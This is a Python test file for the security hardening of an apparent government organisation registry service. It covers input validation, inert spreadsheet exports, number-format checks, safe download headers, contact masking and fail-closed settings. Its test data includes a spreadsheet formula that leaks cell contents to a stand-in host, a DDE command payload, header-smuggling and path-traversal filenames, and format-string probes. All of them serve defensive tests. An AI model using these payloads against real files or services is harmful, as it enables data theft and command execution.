"""Rules of the hardening review that need no server: text at the boundary, inert spreadsheet
cells, SKT number formats, download names, masking by role, fail-closed settings, compose."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from pydantic import ValidationError

from services.registry.adapters import spreadsheets
from services.registry.domain import importing, numbering
from shared import masking, sheets
from shared.kafka import transient
from shared.settings import DEV_KEY_TEXT, ServiceSettings
from shared.text import Input
from shared.web import content_disposition

ROOT = Path(__file__).resolve().parents[2]


class _Body(Input):
    multiline = frozenset({"notes"})
    title: str
    notes: str | None = None
    tags: list[str] = []
    data: dict = {}


@pytest.mark.parametrize("body,field", [
    ({"title": "Undangan\r\nBcc: x@y.id"}, "title"),
    ({"title": "Aula\x0bBaru"}, "title"),
    ({"title": "ok", "notes": "a\x00b"}, "notes"),
    ({"title": "ok", "tags": ["baik", "bu\x1bruk"]}, "tags"),
    ({"title": "ok", "data": {"venue": {"name": "x\u2028y"}}}, "data"),
])
def test_control_characters_are_refused_naming_the_field(body, field):
    with pytest.raises(ValidationError) as e:
        _Body(**body)
    assert e.value.errors()[0]["loc"] == (field,)


def test_paragraphs_are_allowed_where_the_model_says():
    assert _Body(title="Dialog", notes="Satu.\r\nDua.\tTiga").notes.startswith("Satu.")


@pytest.mark.parametrize("value,csv_value", [
    ('=HYPERLINK("http://evil.example/?d="&A3,"Klik")', '\'=HYPERLINK("http://evil.example/?d="&A3,"Klik")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("+6281234567890", "+6281234567890"), ("-5", "-5"), ("Pemuda Pancasila", "Pemuda Pancasila"),
])
def test_formula_cells_are_inert_in_csv_and_read_back_as_written(value, csv_value):
    assert sheets.csv_cell(value) == csv_value
    assert sheets.unquote(sheets.csv_cell(value)) == value


def test_exports_write_formulas_as_text_and_read_them_back():
    name = '=HYPERLINK("http://evil.example","Klik")'
    data = spreadsheets.write_xlsx(["Nama Ormas", "Telepon"], [[name, "+6281234567890"]])
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.value == name and cell.data_type == "s"
    text = spreadsheets.write_csv(["Nama Ormas"], [[name]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + name]
    plan = importing.plan(spreadsheets.read_rows(text.encode(), "csv"), office="35.75", actor="t",
                          now=__import__("datetime").datetime.now(__import__("datetime").UTC), default_region="35.75")
    assert plan.docs[0][1]["name"] == name


def test_compiled_reports_write_kegiatan_titles_as_text():
    from services.reporting.domain import reports
    from tests.unit.test_reporting_reports import LISTED

    title = '=HYPERLINK("http://evil.example/?d="&A3,"Klik")'
    figures = {**LISTED, "kegiatan_list": [{**LISTED["kegiatan_list"][0], "title": title, "venue_name": "Aula\x01"}]}
    table = list(csv.reader(io.StringIO(reports.to_csv(figures).decode("utf-8-sig"))))
    assert ["'" + title] == [c for row in table for c in row if "HYPERLINK" in c]
    wb = load_workbook(io.BytesIO(reports.to_xlsx(figures, "Laporan")))
    cells = [c for row in wb[reports.LIST_TITLE].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells[0].value == title and cells[0].data_type == "s"


@pytest.mark.parametrize("fmt", ["{seq:>300000000}", "{seq.__class__}", "{seq[0]}", "{seq!r}", "{x}/{seq}",
                                 "SKT/{year}", "{seq:99d}", "{seq"])
def test_an_skt_format_with_anything_but_its_fields_is_refused(fmt):
    with pytest.raises(numbering.BadFormat):
        numbering.check(fmt)


def test_an_skt_format_numbers():
    assert numbering.number("220/{seq:04d}/SKT/{office}/{year}", seq=7, year=2026, office="35.75",
                            region="35.75.01") == "220/0007/SKT/35.75/2026"


@pytest.mark.parametrize("name", ['Surat “Domisili”.pdf', 'a"; filename*=UTF-8\'\'evil.exe', "../../x\r\n.pdf", ""])
def test_download_names_are_safe_in_a_header(name):
    value = content_disposition(name, "dokumen")
    value.encode("latin-1")  # a header value: no 500 on non-latin-1 names
    fallback = value.split('filename="', 1)[1].split('"', 1)[0]
    assert value.count("filename*=") == 1 and not set('"\\;\r\n/') & set(fallback)


def test_one_masking_policy_by_role():
    record = {"phone": "+6281234567890", "whatsapp": "+6281234567891", "email": "sekretariat@pp.or.id", "name": "PP"}
    assert masking.contacts_for("operator", record) == record
    seen = masking.contacts_for("analyst", record)
    assert seen["phone"].endswith("7890") and "*" in seen["phone"] and seen["email"] == "se*********@pp.or.id"
    assert masking.mask_address("203.0.113.45") == "203.0.113.x" and masking.mask_name("admin.kota") == "ad********"


def test_only_outages_are_transient():
    from pymongo.errors import AutoReconnect, DuplicateKeyError, OperationFailure

    assert transient(AutoReconnect("gone")) and transient(ConnectionResetError()) and transient(TimeoutError())
    assert not transient(KeyError("x")) and not transient(DuplicateKeyError("dup")) and not transient(ValueError())
    # FerretDB, a collection renamed under the write (a rebuild's swap): retried, never dead-lettered
    assert transient(OperationFailure("SQL logic error: no such table: ormas_1a2b (1)", code=1))
    assert not transient(OperationFailure("SQL logic error: near FROM (1)", code=1))


def test_settings_default_to_production_and_know_a_development_key_by_its_content(tmp_path, monkeypatch):
    monkeypatch.delenv("ENVIRONMENT", raising=False)
    with pytest.raises(ValidationError, match="must be set"):
        ServiceSettings()  # no environment named: production's checks
    renamed = tmp_path / "office-public.pem"
    renamed.write_text(DEV_KEY_TEXT + "\n-----BEGIN PUBLIC KEY-----\n...\n")
    with pytest.raises(ValidationError, match="development key"):
        ServiceSettings(environment="production", jwt_public_key_file=renamed)


def test_the_notifications_whatsapp_app_secret_may_not_be_empty_when_whatsapp_is_on():
    from services.notifications.settings import Settings

    base = {"environment": "production", "jwt_public_key_file": ROOT / "pyproject.toml", "sms_api_key": "",
            "document_secret": "s" * 32}
    with pytest.raises(ValidationError, match="DOCUMENT_SECRET"):
        Settings(**{**base, "document_secret": "development-document-secret"})
    with pytest.raises(ValidationError, match="APP_SECRET"):
        Settings(**base, whatsapp_token="t" * 30, whatsapp_app_secret="", whatsapp_verify_token="")
    assert Settings(**base, whatsapp_token="", whatsapp_app_secret="", whatsapp_verify_token="").whatsapp_token == ""


def test_compose_mounts_the_signing_key_in_registry_api_alone_and_logs_no_access_lines():
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    anchors = compose["x-app"]["secrets"]
    assert "jwt_private_key" not in anchors
    for name, spec in compose["services"].items():
        secrets = spec.get("secrets", anchors if spec.get("image") == "kesbang-platform:0.1.0" else [])
        assert ("jwt_private_key" in secrets) == (name == "registry-api"), name
        command = spec.get("command") or []
        if "uvicorn" in command:
            assert "--no-access-log" in command, name
        env = spec.get("environment") or {}
        assert "REGISTRY_JWT_PRIVATE_KEY_FILE" not in env or name == "registry-api", name
    cmd = next(line for line in (ROOT / "deploy" / "Dockerfile").read_text().splitlines() if line.startswith("CMD"))
    assert "--no-access-log" in cmd  # the image's own command line too


def test_the_admin_command_reaches_the_local_stack_database(monkeypatch):
    from services.registry import admin

    monkeypatch.delenv("REGISTRY_MONGO_URL", raising=False)
    monkeypatch.delenv("REGISTRY_MONGO_DB", raising=False)
    monkeypatch.delenv("REGISTRY_ENVIRONMENT", raising=False)
    s = admin._settings()
    assert s.mongo_db == "kesbang_registry" and s.environment == "development"


def test_an_addition_carries_a_pending_fan_out_run():
    from services.events.domain.kegiatan import next_fanout

    assert next_fanout({"state": "done", "run": "a"}, run="b", by="op")["carried"] == []
    assert next_fanout({"state": "pending", "run": "a"}, run="b", by="op")["carried"] == ["a"]
    assert next_fanout({"state": "pending", "run": "b", "carried": ["a"]}, run="c", by="op")["carried"] == ["a", "b"]
    assert next_fanout(None, run="a", by="op") == {"state": "pending", "run": "a", "by": "op", "carried": []}


def test_the_events_public_url_must_be_set_outside_development():
    from services.events.settings import Settings

    base = {"environment": "production", "jwt_public_key_file": ROOT / "pyproject.toml", "token_secret": "s" * 40}
    with pytest.raises(ValidationError, match="EVENTS_PUBLIC_URL"):
        Settings(**base)  # the default, on this machine
    with pytest.raises(ValidationError, match="EVENTS_PUBLIC_URL"):
        Settings(**base, public_url="http://localhost:8002")
    assert Settings(**base, public_url="https://undangan.kesbangpol.example.go.id").public_url.startswith("https://")
